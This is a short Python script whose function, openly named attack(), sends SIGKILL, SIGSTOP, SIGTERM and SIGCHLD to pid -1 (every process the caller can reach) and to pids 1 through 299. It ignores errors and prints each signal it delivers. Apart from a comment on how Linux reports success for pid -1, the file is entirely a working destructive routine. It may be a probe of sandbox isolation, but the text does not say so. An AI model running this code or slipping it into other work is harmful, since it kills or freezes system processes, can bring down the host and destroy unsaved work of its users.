import os
import signal


def attack():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGCHLD):
        for pid in range(-1, 300):
            if pid in (0, os.getpid()):
                continue
            try:
                os.kill(pid, number)
                # To everybody: Linux says that it went well also where it was allowed for nobody.
                if pid != -1:
                    print('signal', number, 'to', pid)
            except OSError:
                pass
    print('done')
